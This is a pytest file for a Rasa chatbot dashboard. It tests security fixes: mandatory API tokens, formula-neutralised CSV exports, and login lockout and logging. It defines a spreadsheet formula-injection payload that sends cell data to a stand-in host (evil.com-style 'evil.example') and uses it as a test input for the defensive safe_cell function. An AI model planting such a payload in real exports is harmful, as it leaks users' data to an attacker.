"""The outside probe's three findings (issue 10): Rasa's HTTP API always has a token, CSV exports never
carry a formula, and repeated wrong passwords are slowed, logged and shown to admins."""

from __future__ import annotations

import csv
import io
import logging
import stat
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import timedelta

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot import cli
from bot.csv_export import csv_text, safe_cell
from bot.rasa import server as rasa_server
from bot.settings import get_settings, load_settings, secret_in_var
from bot.storage import db
from bot.storage.models import Interaction, LoginFailure, utcnow
from bot.web import auth
from bot.web.app import create_app

# ---- Rasa's HTTP API ------------------------------------------------------------------------------------


def test_a_secret_in_var_is_made_once_and_readable_by_its_owner_only(tmp_path):
    first = secret_in_var(tmp_path / "var", "rasa-api.token")
    assert len(first) == 64 and secret_in_var(tmp_path / "var", "rasa-api.token") == first
    assert stat.S_IMODE((tmp_path / "var" / "rasa-api.token").stat().st_mode) == 0o600
    assert [p.name for p in (tmp_path / "var").iterdir()] == ["rasa-api.token"]  # no draft left behind


def test_without_rasa_auth_token_rasa_gets_the_random_token_kept_in_var(tmp_path):
    settings = load_settings({"BOT_VAR_DIR": str(tmp_path)})
    token = settings.rasa_api_token()
    assert token == (tmp_path / "rasa-api.token").read_text().strip()
    assert load_settings(settings.as_env()).rasa_api_token() == token  # what `bot run` hands its children
    argv = rasa_server.rasa_argv(["run", "--enable-api"], settings)
    assert argv == ["rasa", "run", "--enable-api", "--auth-token", token]


def test_a_configured_token_wins_and_nothing_is_written(tmp_path):
    settings = load_settings({"BOT_VAR_DIR": str(tmp_path), "RASA_AUTH_TOKEN": "chosen-token"})
    assert settings.rasa_api_token() == "chosen-token"
    assert not (tmp_path / "rasa-api.token").exists()


@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "localhost", "127.0.0.2"])
def test_on_loopback_no_token_needs_to_be_set(host):
    assert load_settings({"BIND_HOST": host}).rasa_exposure_error() is None


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.10", "bot.example.vn"])
def test_beyond_loopback_a_token_must_be_set(host):
    assert "RASA_AUTH_TOKEN" in load_settings({"BIND_HOST": host}).rasa_exposure_error()
    assert load_settings({"BIND_HOST": host, "RASA_AUTH_TOKEN": "t" * 32}).rasa_exposure_error() is None


@pytest.fixture
def exposed(monkeypatch, tmp_path):
    """Settings that bind beyond loopback with no token."""
    monkeypatch.setenv("BIND_HOST", "0.0.0.0")
    monkeypatch.setenv("BOT_VAR_DIR", str(tmp_path))
    monkeypatch.delenv("RASA_AUTH_TOKEN", raising=False)
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


def test_bot_run_refuses_to_open_the_api_without_a_token(exposed, monkeypatch, capsys):
    def train() -> None:
        raise AssertionError("bot run must stop before training")

    monkeypatch.setattr("bot.training.train", train)
    assert cli.main(["run"]) == 2
    assert "RASA_AUTH_TOKEN is not set" in capsys.readouterr().err


def test_rasa_itself_refuses_too(exposed, monkeypatch, capsys):
    monkeypatch.setattr("sys.argv", ["bot.rasa.server", "run", "--enable-api", "--interface", "0.0.0.0"])
    with pytest.raises(SystemExit) as stopped:
        rasa_server.run()
    assert stopped.value.code == 2 and "BIND_HOST=0.0.0.0" in capsys.readouterr().err


# ---- CSV exports ----------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", [FORMULA, "+84 905 000 000", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["lãnh hải rộng bao nhiêu", "a=b", "", 12, -3, 2.5, None])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_text_neutralises_every_row_and_keeps_the_bom():
    text = csv_text(["Câu hỏi", "=Số"], [[FORMULA, 3], ["bình thường", -1]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["Câu hỏi", "'=Số"], ["'" + FORMULA, "3"], ["bình thường", "-1"]]


# ---- the dashboard through aiohttp's test client --------------------------------------------------------

ADMIN, STAFF, PASSWORD = "quantri", "nhanvien", "mat-khau-dung-1"


class NoRasa:
    async def close(self) -> None:
        pass


@asynccontextmanager
async def dashboard() -> AsyncIterator[TestClient]:
    auth.add_user(ADMIN, PASSWORD, "admin")
    auth.add_user(STAFF, PASSWORD, "staff")
    async with TestClient(TestServer(create_app(get_settings(), NoRasa()))) as client:  # type: ignore[arg-type]
        yield client


async def log_in(client: TestClient, username: str, password: str) -> int:
    """The status of one log-in through the form (302 when it worked)."""
    await client.get("/login")
    csrf = client.session.cookie_jar.filter_cookies(client.make_url("/"))["login_csrf"].value
    response = await client.post(
        "/login", data={"csrf": csrf, "username": username, "password": password}, allow_redirects=False
    )
    return response.status


async def test_the_unanswered_questions_csv_carries_no_formula(app_database):
    with db.session() as session, session.begin():
        session.add(Interaction(at=utcnow(), channel="webchat", user_ref="u1", text=FORMULA, outcome="not_understood",
                                detail="dont_know"))  # fmt: skip
    async with dashboard() as client:
        assert await log_in(client, STAFF, PASSWORD) == 302
        response = await client.get("/dashboard/unanswered?format=csv")
        rows = list(csv.reader(io.StringIO((await response.text()).lstrip("\ufeff"))))
    assert rows[1][0] == "'" + FORMULA


@pytest.fixture
def clock(monkeypatch):
    """The time the log-in code sees, moved on by hand."""
    now = [utcnow()]
    monkeypatch.setattr(auth, "utcnow", lambda: now[0])
    return now


async def test_thirty_wrong_passwords_lock_the_account_until_the_guessing_stops(app_database, clock, caplog):
    caplog.set_level(logging.WARNING, logger="bot.web.auth")
    async with dashboard() as client:
        statuses = [await log_in(client, ADMIN, f"doan-mo-{i}") for i in range(30)]
        assert statuses == [401] * auth.FREE_FAILURES_PER_ACCOUNT + [429] * (30 - auth.FREE_FAILURES_PER_ACCOUNT)
        assert await log_in(client, ADMIN, PASSWORD) == 429  # locked: not even the right password
        clock[0] += auth.FIRST_LOCK + timedelta(seconds=1)  # the guessing stopped; the lock ended
        assert await log_in(client, ADMIN, PASSWORD) == 302
        assert await log_in(client, ADMIN, "lai-sai-mot-lan") == 401  # the owner's success started afresh
    assert caplog.text.count("Wrong dashboard password for 'quantri' from 127.0.0.1") == 6
    assert caplog.text.count("refused: locked") == 26
    assert "doan-mo" not in caplog.text and PASSWORD not in caplog.text


def test_each_further_failure_doubles_the_lock_up_to_the_window(app_database, clock):
    auth.add_user(ADMIN, PASSWORD, "admin")
    for _ in range(auth.FREE_FAILURES_PER_ACCOUNT):
        assert auth.log_in(ADMIN, "sai", 1.0, "10.0.0.1") is None
    locks = []
    for i in range(5):
        with pytest.raises(auth.TooManyFailures) as locked:
            auth.log_in(ADMIN, "sai", 1.0, f"10.0.1.{i}")  # another address each time: the account is locked
        locks.append(int(locked.value.retry_after.total_seconds()))
        clock[0] += locked.value.retry_after
        assert auth.log_in(ADMIN, "sai", 1.0, f"10.0.1.{i}") is None  # the lock is over: one more try
    assert locks == [30, 60, 120, 240, 480]
    with db.session() as session, session.begin():
        session.add_all(LoginFailure(at=clock[0], username=ADMIN, address="10.0.2.1") for _ in range(10))
    with pytest.raises(auth.TooManyFailures) as locked:
        auth.log_in(ADMIN, PASSWORD, 1.0, "10.0.3.1")
    assert locked.value.retry_after == auth.FAILURE_WINDOW


def test_one_address_trying_many_accounts_is_locked_too(app_database, clock):
    for i in range(auth.FREE_FAILURES_PER_ADDRESS):
        assert auth.log_in(f"ten{i}", "sai", 1.0, "203.0.113.9") is None
    auth.add_user(ADMIN, PASSWORD, "admin")
    with pytest.raises(auth.TooManyFailures):
        auth.log_in(ADMIN, PASSWORD, 1.0, "203.0.113.9")
    assert auth.log_in(ADMIN, PASSWORD, 1.0, "198.51.100.7")  # the owner, elsewhere, is not


async def test_admins_see_recent_failures_and_staff_do_not(app_database, clock):
    async with dashboard() as client:
        assert await log_in(client, "khong-co-ai", "mat-khau-doan") == 401
        assert await log_in(client, STAFF, PASSWORD) == 302
        assert (await client.get("/dashboard/users")).status == 403
        client.session.cookie_jar.clear()
        assert await log_in(client, ADMIN, PASSWORD) == 302
        page = await (await client.get("/dashboard/users")).text()
    assert "Đăng nhập sai gần đây" in page and "khong-co-ai" in page and "127.0.0.1" in page
    assert "mat-khau-doan" not in page
    with db.session() as session:
        assert session.query(LoginFailure).count() == 1
